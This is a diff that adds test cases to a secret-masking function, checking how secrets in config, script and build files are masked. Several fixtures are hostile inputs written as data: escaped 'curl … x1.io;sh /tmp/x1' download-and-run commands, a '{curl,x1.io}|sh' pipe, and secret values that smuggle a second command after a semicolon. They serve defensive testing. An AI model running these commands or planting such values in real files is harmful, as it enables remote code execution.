@@ -41,9 +41,58 @@ describe("a mask", () => {
     [".env", `API_KEY=${KEY}==`, `API_KEY=${TAG}`],
     ["a.yml", `password: ${KEY}-x/y+z==`, `password: ${TAG}`],
     ["a.yml", `password: ${KEY};p4ss`, `password: ${TAG};${TAG}`],
-    ["a.json", `{"password": "${KEY};(p4ss"}`, `{"password": "${TAG}"}`],
+    ["a.py", `password = "${KEY}$_@x1"`, `password = "${TAG}"`],
+    [".gitlab-ci.yml", `  DB_PASSWORD: "${KEY}/!@#%x+y"`, `  DB_PASSWORD: "${TAG}"`],
+    ["package.json", `{"config": {"auth_token": "${KEY}"}}`, `{"config": {"auth_token": "${TAG}"}}`],
+    ["deploy.sh", `API_KEY='${KEY}!x@y%z#'`, `API_KEY='${TAG}'`],
   ])("covers all of a secret's literal, in %s: %s", async (path, line, shown) => {
     expect(await masked(`${line}\n`, path)).toBe(`${shown}\n`);
+  });
+
+  it.each([
+    ["a.php", '$password = "$_GET[k3y]";'],
+    ["a.php", '$password = "$request->input1";'],
+    ["a.rb", 'password = "#@params1"'],
+    ["a.rb", 'password = "#@@x1params"'],
+    ["a.pl", 'my $password = "a1@cmd[0]";'],
+    ["a.sh", 'API_KEY="a1$2b3c4d5"'],
+    ["a.bat", "set API_KEY=a1%CMD2%b"],
+    ["a.cmd", "set API_KEY=a1!CMD2!b"],
+    ["Makefile", "API_KEY = a1$@x3y4z5"],
+    ["a.kt", 'val password = "a1$_input2b"'],
+    ["a.scala", 'val password = s"a1$_input2b"'],
+    ["a.tcl", 'set password "a1[run2xyz]"'],
+    ["a.cfm", '<cfset password="a1#run2xyz#">'],
+    ["package.json", String.raw`{"sync-secret": "python3\u0020evil1.py"}`],
+    ["package.json", String.raw`{"sync-secret": "curl\u0020-o\u0020/tmp/x1\u0020x1.io;sh\u0020/tmp/x1"}`],
+    ["Taskfile.yml", String.raw`  sync-secret: "curl\x20-o\x20/tmp/x1\x20x1.io;sh\x20/tmp/x1"`],
+    [".cargo/config.toml", String.raw`sync-secret = "run\u0020--manifest-path\u0020/tmp/x1"`],
+    ["a.py", String.raw`secret = "curl\x20-o\x20/tmp/x1\x20x1.io"`],
+    ["build.xml", "<password>python3&#32;evil1.py</password>"],
+    ["a.yml", "secret_key: exec:/tmp/x1"],
+  ])("covers nothing of what is inserted, escaped or named, in %s: %s", async (path, line) => {
+    expect(await masked(`${line}\n`, path)).toBe(`${line}\n`);
+  });
+
+  it.each([
+    [
+      ".gitlab-ci.yml",
+      String.raw`  APP_SECRET: "a1b2;sh\x20/tmp/x1"`,
+      String.raw`  APP_SECRET: "${TAG};sh\x20/tmp/x1"`,
+    ],
+    ["a.json", `{"password": "${KEY};(p4ss"}`, `{"password": "${TAG};(${TAG}"}`],
+    ["a.json", `{"password": "${KEY};/tmp/x1"}`, `{"password": "${TAG};/tmp/x1"}`],
+    ["a.yml", `secret_key: "${KEY};{curl,x1.io}|sh"`, `secret_key: "${TAG};{curl,x1.io}|sh"`],
+    ["a.sh", `API_KEY="${KEY}$2b3c4d5"`, `API_KEY="${TAG}$2b3c4d5"`],
+    ["a.rb", `password = "${KEY}" + \`run1xyz\``, `password = "${TAG}" + \`run1xyz\``],
+  ])("ends where a command may begin, in %s: %s", async (path, line, shown) => {
+    expect(await masked(`${line}\n`, path)).toBe(`${shown}\n`);
+  });
+
+  it("ends where code begins before a private key, too", async () => {
+    const line = PRIVATE_KEY.split("\n")[1];
+    const shown = await masked(`_authToken=${line}_authToken=LOGIN_REQUIRED${PRIVATE_KEY}`, "a.txt");
+    expect(shown).toContain("=LOGIN_REQUIRED[");
   });
 
   it("covers words of a secret alone wherever what it covers stands in no literal, whatever the text", async () => {
